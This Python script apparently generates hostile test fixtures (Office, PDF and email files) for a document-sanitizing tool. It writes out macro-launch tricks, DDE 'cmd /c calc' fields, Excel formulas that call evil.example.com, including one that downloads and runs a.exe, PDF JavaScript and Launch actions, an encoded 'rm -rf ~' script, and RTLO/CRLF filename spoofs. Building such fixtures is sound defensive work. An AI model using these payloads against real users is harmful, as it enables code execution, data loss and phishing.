#!/usr/bin/env python3
"""Builds the hostile documents and mails of tests/cli/sanitize_hostile.sh into DIR
(issue 15, 無害化 items 1-6): each is what an attacker sent and what got through
before.  Standard library only, so that the test knows exactly what each holds.

  altchunk.docx      w:altChunk elements importing an embedded docm (VBA), an RTF with
                     \\object\\objemb, an MHT and an HTML page with a script, one of
                     them in the header; a chunk element whose relationship is missing
  macrosheet.xlsx    macro sheets in disguise (xm:macrosheet root under a worksheet
                     content type and relationship; a worksheet root under an
                     xlMacrosheet relationship; a macro sheet with no content type at
                     all), _xlnm.Auto_Open and Auto_Close names, a name calling EXEC,
                     WEBSERVICE / FILTERXML / IMAGE / RTD / CALL / REGISTER.ID / EXEC /
                     HYPERLINK in cell formulas (with and without a cached value, one a
                     shared formula), in data validation (also x14) and conditional
                     formatting; harmless formulas, a string and a sheet name that
                     only spell those names; an Office web extension task pane
  orphans.docx       parts no relationship reaches (media/image9.png holding a VBA
                     project, x.xlsm, sub.docm, a .rels of nothing), a PNG with text
                     chunks and a docm after IEND, a "PNG" that is an OLE2 file, an
                     SVG with a script (referenced by asvg:svgBlip beside its PNG),
                     a GIF, a JPEG declared as PNG, a part name with RTLO and a newline
  openaction.pdf     /OpenAction JavaScript (nothing in the Names tree)
  actions.pdf        page /AA Launch, a Launch link, a URI link, a widget with /AA JS,
                     an AcroForm with XFA, a file attachment annotation
  objstm.pdf         the catalog with /OpenAction inside a compressed object stream,
                     names written with #-escapes (/Open#41ction, /J#53)
  uuencode.eml, yenc.eml, binhex.eml, html-uuencode.eml: encoded files inside text
  names.eml          attachment names with CR/LF (a fake notice line), RTLO and other
                     bidi and control characters; bare URLs in text/plain
  html-urls.eml      bare URLs in HTML text nodes, one split over two elements
"""
import base64
import binascii
import email.policy
import io
import os
import struct
import sys
import zipfile
import zlib
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
     'xmlns:r="%s"' % R)
SML = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s"' % R
XM = "http://schemas.microsoft.com/office/excel/2006/main"
MSREL = "http://schemas.microsoft.com/office/2006/relationships"
BASE_DEFAULTS = [("rels", "application/vnd.openxmlformats-package.relationships+xml"), ("xml", "application/xml")]
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XL_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
VBA = OLE2 + b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"calc\"\nEnd Sub\n" * 8


def rels(*items):
    s = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">')
    for rid, typ, target, *ext in items:
        s += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, typ if typ.startswith("http") else R + "/" + typ, target,
            ' TargetMode="External"' if ext else "")
    return s + "</Relationships>"


def ctypes(defaults, overrides):
    s = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">')
    for ext, t in defaults:
        s += '<Default Extension="%s" ContentType="%s"/>' % (ext, t)
    for p, t in overrides:
        s += '<Override PartName="%s" ContentType="%s"/>' % (p, t)
    return s + "</Types>"


def zipbytes(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in entries:
            z.writestr(n, data)
    return buf.getvalue()


def pkg_rels(main, *more):
    return rels(("rId1", "officeDocument", main), *more)


def docm():
    """A small macro-enabled Word document (what an altChunk or an orphan carries)."""
    return zipbytes([
        ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")], [
            ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")])),
        ("_rels/.rels", pkg_rels("word/document.xml")),
        ("word/document.xml", '<w:document %s><w:body><w:p><w:r><w:t>チャンクの本文</w:t></w:r></w:p>'
         '<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
         '</w:body></w:document>' % W),
        ("word/_rels/document.xml.rels", rels(("rId1", MSREL + "/vbaProject", "vbaProject.bin"))),
        ("word/vbaProject.bin", VBA),
    ])


def png(extra=b"", trailing=b""):
    def chunk(t, data):
        return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + bytes([255, 0, 0, 0, 255, 0]) for _ in range(2))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
            + extra + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"") + trailing), chunk


def build_ooxml(out):
    def write(name, entries):
        open(os.path.join(out, name), "wb").write(zipbytes(entries))

    # ---- 1. altChunk ---------------------------------------------------------
    rtf = (b"{\\rtf1\\ansi{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}"
           b"{\\*\\objdata 01050000020000000b0000005061636b616765000000000000000000" + VBA.hex().encode() +
           b"}}{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}}}")
    mht = ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"
           "Content-Type: text/html\r\n\r\n<html><body><script>alert('mht')</script>"
           "<img src=\"https://evil.example.com/track.png\">MHT の本文</body></html>\r\n--b--\r\n")
    html = ('<html><body><p>HTML チャンク</p><script>document.location="https://evil.example.com/"</script>'
            '<img src="\\\\evil.example.com\\share\\x.png"></body></html>')
    write("altchunk.docx", [
        ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [
            ("rtf", "application/rtf"), ("mht", "message/rfc822"), ("html", "text/html"),
            ("docm", "application/vnd.ms-word.document.macroEnabled.12")], [
            ("/word/document.xml", WORD_MAIN),
            ("/word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")])),
        ("_rels/.rels", pkg_rels("word/document.xml")),
        ("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<w:document %s><w:body><w:p><w:r><w:t>前文です。</w:t></w:r></w:p>'
         '<w:altChunk r:id="rIdA1"/><w:altChunk r:id="rIdA2"/>'
         '<w:p><w:r><w:t>間の文です。</w:t></w:r></w:p>'
         '<w:altChunk r:id="rIdA3"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk>'
         '<w:altChunk r:id="rIdMissing"/>'
         '<w:p><w:r><w:t>後文です。</w:t></w:r></w:p>'
         '<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>'
         '</w:body></w:document>' % W),
        ("word/_rels/document.xml.rels", rels(
            ("rIdA1", "aFChunk", "afchunk1.docm"),
            ("rIdA2", "aFChunk", "/word/afchunk2.rtf"),
            ("rIdA3", "aFChunk", "afchunk3.mht"),
            ("rIdH", "header", "header1.xml"))),
        ("word/header1.xml", '<w:hdr %s><w:p><w:r><w:t>ヘッダー</w:t></w:r></w:p>'
         '<w:altChunk r:id="rIdA4"/></w:hdr>' % W),
        ("word/_rels/header1.xml.rels", rels(("rIdA4", "aFChunk", "afchunk4.html"))),
        ("word/afchunk1.docm", docm()),
        ("word/afchunk2.rtf", rtf),
        ("word/afchunk3.mht", mht),
        ("word/afchunk4.html", html),
    ])

    # ---- 2. Excel active content --------------------------------------------
    macro_root = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                  '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                  'xmlns:xm="%s"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c>'
                  '<c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>' % XM)
    sheet1 = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<worksheet %s xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
              'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="%s">'
              '<sheetData>'
              '<row r="1"><c r="A1" t="str"><f>_xlfn.WEBSERVICE("https://evil.example.com/x?"&amp;B9)</f><v>取得済み</v></c>'
              '<c r="B1"><f>FILTERXML(_xlfn.WEBSERVICE("http://evil.example.com/"),"//a")</f><v>5</v></c></row>'
              '<row r="2"><c r="A2"><f>CALL("kernel32","WinExec","JCJ","calc",0)</f></c>'
              '<c r="B2"><f>REGISTER.ID("kernel32","WinExec")</f><v>0</v></c></row>'
              '<row r="3"><c r="A3" t="e"><f>_xlfn.IMAGE("https://evil.example.com/p.png")</f><v>#VALUE!</v></c>'
              '<c r="B3"><f>rtd ("evil.server",,"topic")</f><v>7</v></c></row>'
              '<row r="4"><c r="A4"><f t="shared" ref="A4:A5" si="0">EXEC("calc")+A1</f><v>1</v></c>'
              '<c r="B4" t="str"><f>HYPERLINK("https://evil.example.com/","クリック")</f><v>クリック</v></c></row>'
              '<row r="5"><c r="A5"><f t="shared" si="0"/><v>2</v></c></row>'
              '<row r="6"><c r="A6"><f>SUM(1,2)</f><v>3</v></c>'
              '<c r="B6" t="str"><f>"WEBSERVICE(x)"&amp;"CALL("</f><v>WEBSERVICE(x)CALL(</v></c>'
              '<c r="C6"><f>\'EXEC(1)\'!A1</f><v>4</v></c>'
              '<c r="D6"><f>IMAGES_TOTAL+1</f><v>5</v></c></row>'
              '</sheetData>'
              '<conditionalFormatting sqref="C1"><cfRule type="expression" dxfId="0" priority="1">'
              '<formula>ISNUMBER(RTD("x",,"y"))</formula></cfRule></conditionalFormatting>'
              '<conditionalFormatting sqref="C2"><cfRule type="expression" dxfId="0" priority="2">'
              '<formula>C2&gt;1</formula></cfRule>'
              '<cfRule type="expression" dxfId="0" priority="3"><formula>_xlfn.WEBSERVICE("http://evil.example.com/cf")=""</formula></cfRule>'
              '</conditionalFormatting>'
              '<dataValidations count="2"><dataValidation type="list" sqref="D1">'
              '<formula1>_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://evil.example.com/list"),"//i")</formula1></dataValidation>'
              '<dataValidation type="whole" sqref="D2"><formula1>1</formula1><formula2>10</formula2></dataValidation>'
              '</dataValidations>'
              '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}">'
              '<x14:dataValidations count="1"><x14:dataValidation type="list">'
              '<x14:formula1><xm:f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://evil.example.com/a.exe","a.exe",0,0)</xm:f></x14:formula1>'
              '<xm:sqref>E1</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>'
              '</worksheet>' % (SML, XM))
    write("macrosheet.xlsx", [
        ("[Content_Types].xml", ctypes(BASE_DEFAULTS, [
            ("/xl/workbook.xml", XL_MAIN),
            ("/xl/worksheets/sheet1.xml", XL_SHEET),
            ("/xl/worksheets/sheet2.xml", XL_SHEET),	# a macro sheet by its root element
            ("/xl/worksheets/sheet3.xml", XL_SHEET),	# a macro sheet by its relationship
            # sheet4.dat: no content type at all
            ("/xl/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml"),
            ("/xl/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml")])),
        ("_rels/.rels", pkg_rels("xl/workbook.xml",
                                 ("rId2", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                                  "xl/webextensions/taskpanes.xml"))),
        ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<workbook %s><sheets><sheet name="集計" sheetId="1" r:id="rId1"/>'
         '<sheet name="Sheet2" sheetId="2" r:id="rId2"/><sheet name="Sheet3" sheetId="3" r:id="rId3"/>'
         '<sheet name="Sheet4" sheetId="4" r:id="rId4"/></sheets>'
         '<definedNames><definedName name="_xlnm.Auto_Open">Sheet2!$A$1</definedName>'
         '<definedName name="Auto_Close_x">集計!$A$6</definedName>'
         '<definedName name="run">EXEC("cmd /c calc")</definedName>'
         '<definedName name="macro1" function="1" xlm="1">Sheet2!$A$1</definedName>'
         '<definedName name="local">集計!$A$6</definedName></definedNames></workbook>' % SML),
        ("xl/_rels/workbook.xml.rels", rels(
            ("rId1", "worksheet", "worksheets/sheet1.xml"),
            ("rId2", "worksheet", "worksheets/sheet2.xml"),
            ("rId3", MSREL + "/xlMacrosheet", "worksheets/sheet3.xml"),
            ("rId4", "worksheet", "worksheets/sheet4.dat"))),
        ("xl/worksheets/sheet1.xml", sheet1),
        ("xl/worksheets/sheet2.xml", macro_root),
        ("xl/worksheets/sheet3.xml", '<worksheet %s><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row>'
         '</sheetData></worksheet>' % SML),
        ("xl/worksheets/sheet4.dat", macro_root),
        ("xl/webextensions/taskpanes.xml", '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11" '
         'xmlns:r="%s"><wetp:taskpane dockstate="right" visibility="1" width="350" row="1">'
         '<wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>' % R),
        ("xl/webextensions/_rels/taskpanes.xml.rels", rels(
            ("rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension", "webextension1.xml"))),
        ("xl/webextensions/webextension1.xml", '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" '
         'id="{00000000-0000-0000-0000-000000000001}"><we:reference id="wa000001" version="1.0.0.0" '
         'store="https://evil.example.com/manifest.xml" storeType="Filesystem"/><we:alternateReferences/>'
         '<we:properties/><we:bindings/><we:snapshot/></we:webextension>'),
    ])

    # ---- 3. orphans and images -----------------------------------------------
    meta_png, chunk = png(extra=b"")
    meta_png, chunk = png(extra=chunk(b"tEXt", b"Comment\0secret text chunk"), trailing=docm())
    clean_png, _ = png()
    svg = ('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example.com/")</script>'
           '<rect width="10" height="10"/></svg>')
    gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
    jpeg = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "files", "base-16x8.jpg"), "rb").read()
    A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'

    def pic(rid, ext=""):
        return ('<w:p><w:r><w:drawing><a:graphic %s><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
                '<a:blip r:embed="%s">%s</a:blip></a:graphicData></a:graphic></w:drawing></w:r></w:p>' % (A, rid, ext))
    svgblip = ('<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
               '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdSvg"/>'
               '</a:ext></a:extLst>')
    write("orphans.docx", [
        ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [
            ("png", "image/png"), ("svg", "image/svg+xml"), ("gif", "image/gif"), ("jpeg", "image/jpeg"),
            ("xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12"),
            ("docm", "application/vnd.ms-word.document.macroEnabled.12"), ("exe", "application/octet-stream")], [
            ("/word/document.xml", WORD_MAIN)])),
        ("_rels/.rels", pkg_rels("word/document.xml", ("rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
                                                       "docProps/thumbnail.jpeg"))),
        ("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<w:document %s><w:body><w:p><w:r><w:t>画像のある文書です。</w:t></w:r></w:p>%s%s%s%s%s'
         '</w:body></w:document>' % (W, pic("rIdPng", svgblip), pic("rIdOle"), pic("rIdGif"), pic("rIdJpg"),
                                     pic("rIdPng2"))),
        ("word/_rels/document.xml.rels", rels(
            ("rIdPng", "image", "media/image1.png"),
            ("rIdSvg", "image", "media/image3.svg"),
            ("rIdOle", "image", "media/image2.png"),
            ("rIdGif", "image", "media/image4.gif"),
            ("rIdJpg", "image", "media/image5.png"),
            ("rIdPng2", "image", "media/image6.png"))),
        ("docProps/thumbnail.jpeg", jpeg),
        ("word/media/image1.png", meta_png),
        ("word/media/image2.png", VBA),
        ("word/media/image3.svg", svg),
        ("word/media/image4.gif", gif),
        ("word/media/image5.png", jpeg),
        ("word/media/image6.png", clean_png),
        ("word/media/image9.png", VBA),
        ("word/x.xlsm", zipbytes([("xl/vbaProject.bin", VBA)])),
        ("word/sub.docm", docm()),
        ("word/_rels/nothing.xml.rels", rels(("rId1", MSREL + "/vbaProject", "media/image9.png"))),
        ("word/invoice\u202egnp.exe\n  fake line", b"MZ\x90\0"),
    ])


# ---- 6. PDF --------------------------------------------------------------------
def pdf(objs, root=1, extra_trailer=b""):
    data = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (i + 1, body)
    xref = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offsets:
        data += b"%010d 00000 n \n" % o
    data += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, root, extra_trailer, xref)
    return bytes(data)


def page_content():
    c = b"0 0 0 rg 100 100 100 100 re f\n"
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(c), c)


def build_pdf(out):
    def write(name, data):
        open(os.path.join(out, name), "wb").write(data)
    # /OpenAction JavaScript, and nothing in the Names tree
    write("openaction.pdf", pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('https://evil.example.com/'\\);) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        page_content()]))
    # page /AA, links, a form with XFA and a widget with a keystroke script, an attachment annotation
    write("actions.pdf", pdf([
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /XFA 7 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/AA << /O << /S /Launch /F (calc.exe) >> >> /Annots [5 0 R 6 0 R 8 0 R 9 0 R] >>",
        page_content(),
        b"<< /Type /Annot /Subtype /Link /Rect [10 10 50 50] /A << /S /Launch /F (cmd.exe) >> >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [60 60 150 80] /P 3 0 R "
        b"/AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>",
        b"<< /Length 44 >>\nstream\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>\nendstream",
        b"<< /Type /Annot /Subtype /Link /Rect [10 150 50 190] /A << /S /URI /URI (https://evil.example.com/u) >> >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [150 150 170 170] /FS 10 0 R >>",
        b"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 11 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"]))
    # the catalog inside a compressed object stream, names with #-escapes
    inner = [(1, b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 5 0 R >>"),
             (5, b"<< /S /JavaScript /J#53 (app.alert\\('objstm'\\);) >>")]
    head, body = b"", b""
    for num, o in inner:
        head += b"%d %d " % (num, len(body))
        body += o + b"\n"
    stm = zlib.compress(head + body)
    plain = {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
             4: page_content(),
             6: b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
                % (len(inner), len(head), len(stm), stm)}
    data = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(plain):
        offsets[num] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (num, plain[num])
    xref_num = 7
    offsets[xref_num] = len(data)
    rows = b""
    for num in range(0, 8):
        if num == 0:
            rows += struct.pack(">BIH", 0, 0, 65535)
        elif num in (1, 5):
            rows += struct.pack(">BIH", 2, 6, [n for n, _ in inner].index(num))
        else:
            rows += struct.pack(">BIH", 1, offsets[num], 0)
    xs = zlib.compress(rows)
    data += (b"%d 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
             b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref_num, len(xs), xs, offsets[xref_num]))
    write("objstm.pdf", bytes(data))


# ---- 4, 5. mail ------------------------------------------------------------------
PAYLOAD = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 3 + b"This program cannot be run in DOS mode"


def yenc(data, name):
    out, line = bytearray(), bytearray()
    for b in data:
        c = (b + 42) & 255
        if c in (0, 10, 13, 61) or (c in (9, 32) and not line) or (c == 46 and not line):
            line += b"=" + bytes([(c + 64) & 255])
        else:
            line.append(c)
        if len(line) >= 128:
            out += line + b"\r\n"
            line = bytearray()
    if line:
        out += line + b"\r\n"
    return (b"=ybegin line=128 size=%d name=%s\r\n" % (len(data), name.encode()) + bytes(out)
            + b"=yend size=%d crc32=%08x\r\n" % (len(data), zlib.crc32(data)))


def binhex(data, name):
    """BinHex 4.0 (no run-length compression; a 0x90 byte is escaped as 90 00)."""
    def crc(b):
        c = 0
        for byte in b + b"\0\0":
            for i in range(8):
                hi = c & 0x8000
                c = ((c << 1) | ((byte >> (7 - i)) & 1)) & 0xFFFF
                if hi:
                    c ^= 0x1021
        return c
    hdr = bytes([len(name)]) + name.encode() + b"\0" + b"APPL" + b"????" + b"\0\0" + struct.pack(">II", len(data), 0)
    stream = hdr + struct.pack(">H", crc(hdr)) + data + struct.pack(">H", crc(data)) + struct.pack(">H", 0)
    stream = stream.replace(b"\x90", b"\x90\x00")
    alphabet = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
    bits, nbits, enc = 0, 0, bytearray()
    for b in stream:
        bits = (bits << 8) | b
        nbits += 8
        while nbits >= 6:
            nbits -= 6
            enc.append(alphabet[(bits >> nbits) & 63])
    if nbits:
        enc.append(alphabet[(bits << (6 - nbits)) & 63])
    enc = b":" + bytes(enc) + b":"
    lines = [enc[i:i + 64] for i in range(0, len(enc), 64)]
    return b"(This file must be converted with BinHex 4.0)\r\n\r\n" + b"\r\n".join(lines) + b"\r\n"


def head(m, subject):
    m["Subject"] = subject
    m["From"] = "yamada@example.jp"
    m["To"] = "soumu@city.example.lg.jp"
    m["Date"] = "Sun, 22 Nov 2026 10:00:00 +0900"
    m["Message-ID"] = "<%s@example.jp>" % subject
    return m


def build_mail(out):
    def save(name, m):
        open(os.path.join(out, name + ".eml"), "wb").write(m.as_bytes(policy=email.policy.SMTP))
    uu = b"begin 644 invoice.exe\n" + b"".join(binascii.b2a_uu(PAYLOAD[i:i + 45]) for i in range(0, len(PAYLOAD), 45)) \
        + b"`\nend\n"
    b64uu = b"begin-base64 755 run.sh\n" + base64.encodebytes(b"#!/bin/sh\nrm -rf ~\n") + b"====\n"
    body = "請求書を送ります。\n\n".encode() + uu + "\nもう一つ:\n".encode() + b64uu + "\nよろしくお願いします。\n".encode()
    m = MIMEText("", "plain", "utf-8")
    m.set_payload(body)
    m.replace_header("Content-Transfer-Encoding", "8bit")
    save("uuencode", head(m, "uuencode"))
    m = MIMEText("", "plain", "utf-8")
    m.set_payload(b"yEnc the file:\n" + yenc(PAYLOAD, "setup.exe") + b"after yenc\n")
    m.replace_header("Content-Transfer-Encoding", "8bit")
    save("yenc", head(m, "yenc"))
    m = MIMEText("", "plain", "us-ascii")
    m.set_payload(b"Mac file follows.\r\n" + binhex(PAYLOAD, "Evil App") + b"after binhex\r\n")
    m.replace_header("Content-Transfer-Encoding", "8bit")
    save("binhex", head(m, "binhex"))
    html = ("<html><body><p>HTML の中:</p><pre>\nbegin 644 html.exe\n"
            + "".join(binascii.b2a_uu(PAYLOAD[i:i + 45]).decode("latin-1") for i in range(0, len(PAYLOAD), 45))
            .replace("&", "&amp;").replace("<", "&lt;") + "`\nend\n</pre><p>以上</p></body></html>")
    save("html-uuencode", head(MIMEText(html, "html", "utf-8"), "html-uuencode"))
    # the lines made by <br> only: a block that shows only in the text made of the HTML
    lines = ["begin 644 br.exe"] + [binascii.b2a_uu(PAYLOAD[i:i + 45]).decode("latin-1").rstrip("\n")
                                    for i in range(0, len(PAYLOAD), 45)] + ["`", "end"]
    html = ("<html><body><p>改行タグ:</p><div>" + "<br>".join(
        x.replace("&", "&amp;").replace("<", "&lt;").replace(" ", "&#32;") for x in lines) + "</div><p>以上</p></body></html>")
    save("html-br-uuencode", head(MIMEText(html, "html", "utf-8"), "html-br-uuencode"))

    # names: CR/LF writing a fake line, bidi and control characters; bare URLs in text
    mixed = MIMEMultipart("mixed")
    mixed.attach(MIMEText("本文: 詳しくは https://evil.example.com/login?x=1 と http://192.168.0.1/a.exe を、"
                          "または www.evil.example.org/path と ftp://files.evil.example.net/x を見てください。"
                          "HTTPS://EVIL.EXAMPLE.COM/UP もどうぞ。", "plain", "utf-8"))
    for fname in ("evil.pdf\r\n  2. 安全な資料.pdf  [application/pdf, 10 bytes, SHA-256 0]",
                  "invoice\u202efdp.exe", "a\u2066b\u2069c\u200ed\u200fe\u061cf\u202ag\u202bh\u202ci\u202dj\x1b[31mk\x7fl\u2028m",
                  "https://evil.example.com/x.pdf"):
        a = MIMEApplication(b"payload " + fname.encode(), "octet-stream")
        a.add_header("Content-Disposition", "attachment", filename=("utf-8", "", fname))
        mixed.attach(a)
    save("names", head(mixed, "names"))
    save("html-urls", head(MIMEText(
        '<html><body><p>訪問: https://evil.example.com/a と <b>http://</b><i>evil.example.com/split</i> です。'
        'リンク <a href="https://evil.example.com/href">こちら</a> と www.evil.example.org。</p></body></html>',
        "html", "utf-8"), "html-urls"))


if __name__ == "__main__":
    d = sys.argv[1]
    os.makedirs(d, exist_ok=True)
    what = sys.argv[2:] or ["ooxml", "pdf", "mail"]
    if "ooxml" in what:
        build_ooxml(d)
    if "pdf" in what:
        build_pdf(d)
    if "mail" in what:
        build_mail(d)
